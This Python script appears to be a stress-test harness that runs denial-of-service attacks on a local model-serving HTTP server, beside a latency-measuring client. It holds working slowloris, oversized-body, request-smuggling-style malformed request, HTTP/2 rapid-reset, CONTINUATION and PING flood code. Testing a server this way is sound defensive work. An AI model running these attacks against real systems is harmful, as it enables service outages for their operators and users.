"""The attackers of scripts/hostile, the good client, and the program that only reads; each is a process of its own.

hostile_attacks.py ATTACK PORT SECONDS SCALE PID     prints what it got as JSON
"""

import collections
import contextlib
import json
import os
import random
import resource
import select
import socket
import struct
import sys
import time

ROW = b'{"instances":[[5.1,3.5,1.4,0.2]]}'
PREDICT = b"POST /predict/iris HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n" % len(ROW) + ROW
STATE = b"GET /state HTTP/1.1\r\nhost: x\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Attacker:
    def __init__(self, port, seconds, scale):
        self.port, self.scale = port, scale
        self.end = time.monotonic() + seconds
        self.got = collections.Counter()
        self.count = 0

    def connect(self, receive=None):
        """A socket that does not block, from one of many addresses: 28,000 ports are soon used up."""
        self.count += 1
        one = socket.socket()
        if receive:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        one.settimeout(2)
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        one.bind((f"127.0.0.{2 + self.count % 40}", 0))
        try:
            one.connect(("127.0.0.1", self.port))
        except OSError:
            self.got["not connected"] += 1
            one.close()
            return None
        one.setblocking(False)
        return one

    def connections(self, number, beginning=b"", receive=None):
        opened = []
        for _ in self.paced(4000, number):
            one = self.connect(receive)
            if one:
                self.send(one, beginning)
                opened.append(one)
        return opened

    def paced(self, rate, most=None):
        """So many turns a second, until the end; what was missed is not made up for."""
        number, due = 0, time.monotonic()
        while time.monotonic() < self.end and number != most:
            yield number
            number += 1
            due = max(due + 1 / rate, time.monotonic() - 0.05)
            pause = due - time.monotonic()
            if pause > 0:
                time.sleep(pause)

    def send(self, one, data):
        """Whether it could be sent, whole or in part."""
        try:
            return one.send(data) > 0
        except BlockingIOError:
            return True
        except OSError:
            return False

    def look(self, one):
        """What the server has said, or None while the connection is open and silent."""
        try:
            said = one.recv(1 << 16)
        except BlockingIOError:
            return None
        except OSError:
            return "reset"
        if not said:
            return "closed"
        if said.startswith(b"HTTP/1"):
            return said[9:12].decode(errors="replace")
        return "bytes"

    def note(self, one, default="open, silent"):
        self.got[self.look(one) or default] += 1
        one.close()

    def hold(self, opened):
        """Waits for the end, and notes what became of each."""
        time.sleep(max(0, self.end - time.monotonic()))
        for one in opened:
            self.note(one)

    # The attacks.

    def idle(self):
        self.hold(self.connections(10_000))

    def slow(self, opened, byte):
        number = len(opened)
        for turn in self.paced(number / 2):
            one = opened[turn % number]
            if not self.send(one, byte):
                self.note(one)
                opened[turn % number] = self.connect() or one
        for one in opened:
            self.note(one)

    def slow_head(self):
        self.slow(self.connections(int(1000 * self.scale), b"POST /predict/iris HTTP/1.1\r\nhost: "), b"x")

    def slow_body(self):
        head = b"POST /predict/iris HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n\r\n"
        self.slow(self.connections(int(1000 * self.scale), head), b" ")

    def again(self, beginnings, more, rate, at_once):
        """Keeps so many connections that send without end; each that ends is noted and begun anew."""
        opened = [None] * at_once
        for turn in self.paced(rate):
            place = turn % at_once
            one = opened[place]
            if one is None:
                opened[place] = one = self.connect()
                if one is None or not self.send(one, beginnings[self.count % len(beginnings)]):
                    opened[place] = None
                    continue
            said = self.look(one)
            sent = said is None and self.send(one, more)
            if not sent:
                self.got[said or "reset"] += 1
                one.close()
                opened[place] = None
        for one in opened:
            if one:
                self.note(one)

    def headers(self):
        start = b"GET /state HTTP/1.1\r\nhost: x\r\n"
        many = start + b"".join(b"x-%d: y\r\n" % number for number in range(10_000)) + b"\r\n"
        huge = start + b"x: " + b"y" * (1 << 20) + b"\r\n\r\n"
        self.again([many, huge, start + b"x: "], b"y" * (1 << 14), 200 * self.scale, 24)

    def bodies(self):
        start = b"POST /predict/iris HTTP/1.1\r\nhost: x\r\n"
        beginnings = [
            start + b"content-length: 1073741824\r\n\r\n",
            start + b"transfer-encoding: chunked\r\n\r\n40000000\r\n",
            start + b"expect: 100-continue\r\ncontent-length: 1073741824\r\n\r\n",
            b"POST /v2/models/iris/infer HTTP/1.1\r\nhost: x\r\ncontent-encoding: gzip\r\ncontent-length: 1073741824\r\n\r\n",
        ]
        self.again(beginnings, b" " * (1 << 16), 400 * self.scale, 8)

    def stalled_bodies(self):
        length = (8 << 20) - 1
        head = b"POST /predict/iris HTTP/1.1\r\nhost: x\r\ncontent-length: %d\r\n\r\n" % length
        opened = [one for one in self.connections(int(100 * self.scale), head) if one]
        left = dict.fromkeys(opened, length - 1)
        for turn in self.paced(1600):
            one = opened[turn % len(opened)]
            if left[one]:
                with contextlib.suppress(OSError):
                    left[one] -= one.send(b" " * min(1 << 17, left[one]))
            elif not any(left.values()):
                break
        self.got["MB sent"] = (len(opened) * length - sum(left.values())) // 1_000_000
        self.hold(opened)

    def flood(self, opened, batch, rate):
        """Sends batches, and reads what comes: the statuses are counted."""
        for turn in self.paced(rate):
            place = turn % len(opened)
            one = opened[place]
            said = b""
            with contextlib.suppress(BlockingIOError, OSError):
                said = one.recv(1 << 18)
            for part in said.split(b"HTTP/1.1 ")[1:]:
                self.got[part[:3].decode(errors="replace")] += 1
            if not self.send(one, batch()):
                self.got["connections lost"] += 1
                one.close()
                opened[place] = self.connect()

    def garbage(self):
        methods = [b"GET", b"POST", b"BREW", b"PROPFIND", b"DELETE", b"OPTIONS", b"TRACE", b"PATCH", b"X" * 30]
        letters = b"abcdefghijklmnopqrstuvwxyz0123456789-._~/%!*'();:@&=+$,?"

        def one():
            path = bytes(random.choices(letters, k=random.randrange(1, 60)))
            return b"%s /%s HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\n\r\n" % (random.choice(methods), path)

        ready = [b"".join(one() for _ in range(10)) for _ in range(2000)]
        opened = self.connections(8)
        # 100,000 over three rounds of five seconds.
        self.flood(opened, lambda: random.choice(ready), 670 * self.scale)

    def broken(self):
        start = b"POST /predict/iris HTTP/1.1\r\nhost: x\r\n"
        pieces = [
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(200),
            os.urandom(500),
            b"\0" * 500,
            b"\r\n" * 500,
            b"GET /state\r\n\r\n",
            b"GET /state HTTP/9.9\r\nhost: x\r\n\r\n",
            b"GET  /state  HTTP/1.1\r\n\r\n",
            b"GET /state HTTP/1.1\r\nhost : x\r\n\r\n",
            b"GET /\xff\xfe\0 HTTP/1.1\r\nhost: x\r\n\r\n",
            b"GET http://[::1 HTTP/1.1\r\nhost: x\r\n\r\n",
            b"CONNECT x:443 HTTP/1.1\r\nhost: x\r\n\r\n",
            start + b"content-length: -1\r\n\r\n",
            start + b"content-length: 99999999999999999999999\r\n\r\n",
            start + b"content-length: 5\r\ncontent-length: 6\r\n\r\nhello!",
            start + b"content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
            start + b"transfer-encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
            start + b"transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
            start + b"transfer-encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
            start + b"content-length: 40\r\n\r\n" + os.urandom(40),
            start + b"content-length: 100000\r\n\r\n" + b"[" * 100_000,
            start + b"content-length: 33\r\ncontent-encoding: gzip\r\n\r\n" + os.urandom(33),
            start + b"content-type: application/grpc\r\ncontent-length: 5\r\n\r\n\0\xff\xff\xff\xff",
            PREFACE + os.urandom(300),
            PREFACE + b"\0\0\0\x04\0\0\0\0\0" + b"\xff\xff\xff\x01\x05\0\0\0\x01",
            PREFACE + b"\0\0\0\x04\0\0\0\0\0" + b"\0\0\x04\x08\0\0\0\0\0\0\0\0\0",
        ]
        waiting = collections.deque()
        for turn in self.paced(300 * self.scale):
            one = self.connect()
            if one:
                self.send(one, pieces[turn % len(pieces)])
                waiting.append(one)
            if len(waiting) > 100:
                self.note(waiting.popleft())
        for one in waiting:
            self.note(one)

    def pipelined(self):
        deaf = self.connections(4)
        for _ in range(400):
            for one in deaf:
                self.send(one, STATE * 1000)
        self.flood(self.connections(4), lambda: PREDICT * 50 + STATE * 50, 100 * self.scale)
        for one in deaf:
            self.note(one)

    def flood_h2(self, begin, batch, rate, number=4, read=True):
        opened = [[one, 1, b""] for one in self.connections(number, PREFACE + begin)]
        for turn in self.paced(rate):
            state = opened[turn % len(opened)]
            one, stream, _ = state
            if read:
                with contextlib.suppress(OSError):
                    said = one.recv(1 << 18)
                    # A frame GOAWAY: its head says type 7 and stream 0.
                    self.got["GOAWAY"] += said.count(b"\x07\0\0\0\0\0")
            data, state[1] = batch(stream)
            # Past 2^31 no stream can begin; long before that the server has ended this.
            if not self.send(one, data) or state[1] > 1 << 30:
                self.got["connections lost"] += 1
                one.close()
                fresh = self.connect()
                if fresh:
                    self.send(fresh, PREFACE + begin)
                    state[:] = [fresh, 1, b""]
        for state in opened:
            self.got["open at the end"] += self.look(state[0]) not in ("closed", "reset")
            state[0].close()

    def h2_reset(self):
        def batch(stream):
            pairs = [
                request(number) + frame(3, 0, number, struct.pack(">I", 8)) for number in range(stream, stream + 100, 2)
            ]
            return b"".join(pairs), stream + 100

        self.flood_h2(SETTINGS, batch, 200 * self.scale)

    def h2_continuation(self):
        full = frame(9, 0, 1, b"\0\x01x\x01y" * 3276)

        def batch(stream):
            beginning = frame(1, 1, 1, GET_STATE) if stream == 1 else b""
            return beginning + (full if stream % 2 else frame(9, 0, 1, b"") * 500), stream + 1

        self.flood_h2(SETTINGS, batch, 200 * self.scale)

    def h2_ping(self):
        pings = frame(6, 0, 0, b"12345678") * 100
        self.flood_h2(SETTINGS, lambda stream: (pings, stream), 200 * self.scale, read=False)

    def h2_stalled(self):
        # INITIAL_WINDOW_SIZE 0: the server may send the heads, and no byte of a body.
        begin = PREFACE + frame(4, 0, 0, struct.pack(">HI", 4, 0))
        begin += b"".join(request(stream, b"/openapi.json") for stream in range(1, 200, 2))
        opened = self.connections(int(50 * self.scale), begin)
        for turn in self.paced(100):
            one = opened[turn % len(opened)]
            with contextlib.suppress(OSError):
                one.recv(1 << 16)
        for one in opened:
            self.got["open at the end"] += self.look(one) not in ("closed", "reset")
            one.close()

    def storm(self):
        for turn in self.paced(2000 * self.scale):
            one = self.connect()
            if one is None:
                continue
            if turn % 4 == 0:
                self.send(one, STATE)
            if turn % 2:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            one.close()
            self.got["connected"] += 1

    def slow_readers(self):
        listen = b"GET /events HTTP/1.1\r\nhost: x\r\nlast-event-id: 0\r\n\r\n"
        opened = self.connections(int(300 * self.scale), listen, receive=4096)
        large = b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n" * 20
        opened += self.connections(int(200 * self.scale), large, receive=4096)
        self.hold(opened)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(path):
    """:method GET, :scheme http from HPACK's static table, :path and :authority as literals."""
    return b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01\x01x"


def request(stream, path=b"/state"):
    return frame(1, 5, stream, fields(path))


SETTINGS = frame(4, 0, 0, b"")
GET_STATE = fields(b"/state")


def sink(port):
    """Accepts, reads, and answers nothing: what is measured beside it is the attacker alone."""
    listener = socket.create_server(("127.0.0.1", port), backlog=4096)
    listener.setblocking(False)
    poll = select.epoll()
    poll.register(listener, select.EPOLLIN)
    there = {}
    while True:
        for number, _ in poll.poll():
            if number == listener.fileno():
                with contextlib.suppress(OSError):
                    while True:
                        one, _ = listener.accept()
                        one.setblocking(False)
                        poll.register(one, select.EPOLLIN)
                        there[one.fileno()] = one
                continue
            data = b""
            with contextlib.suppress(OSError):
                data = there[number].recv(1 << 18)
            if not data:
                there.pop(number).close()


def exchange(one, what):
    one.sendall(what)
    said = b""
    while b"\r\n\r\n" not in said:
        more = one.recv(1 << 16)
        if not more:
            raise ConnectionError("closed")
        said += more
    head, body = said.split(b"\r\n\r\n", 1)
    at = head.lower().index(b"content-length: ") + 16
    length = int(head[at:].split(b"\r\n", 1)[0])
    while len(body) < length:
        body += one.recv(1 << 16)
    if head[9:12] != b"200":
        raise ValueError(head[9:12].decode() + body[:200].decode(errors="replace"))


def good(port, seconds, rate):
    """Asks at a fixed pace, one after another, and measures each from the byte sent to the last that came."""
    with contextlib.suppress(OSError):
        # What is measured is the server: not how long this program waits for a processor.
        os.nice(-10)

    def connect():
        one = socket.create_connection(("127.0.0.1", port), timeout=5)
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return one

    opened = [connect() for _ in range(8)]
    times, fresh, failures = [], [], []
    begun = due = time.monotonic()
    turn = 0
    while time.monotonic() < begun + seconds:
        turn += 1
        place = turn % len(opened)
        what = PREDICT if turn % 2 else STATE
        start = time.perf_counter()
        try:
            if turn % 25 == 0:
                with connect() as one:
                    exchange(one, what)
                fresh.append(time.perf_counter() - start)
            else:
                exchange(opened[place], what)
                times.append(time.perf_counter() - start)
        except Exception as error:
            failures.append(f"{'a new connection' if turn % 25 == 0 else 'a kept one'}: {error!r}")
            with contextlib.suppress(OSError):
                opened[place].close()
                opened[place] = connect()
        due = max(due + 1 / rate, time.monotonic() - 0.05)
        time.sleep(max(0, due - time.monotonic()))
    print(json.dumps({"times": times, "fresh": fresh, "failures": failures}))


def main():
    name, port, seconds, scale = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if name == "sink":
        sink(port)
    if name == "good":
        return good(port, seconds, scale)
    attacker = Attacker(port, seconds, scale)
    getattr(attacker, name.replace("-", "_"))()
    usage = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({"got": attacker.got, "cpu": usage.ru_utime + usage.ru_stime}))


main()
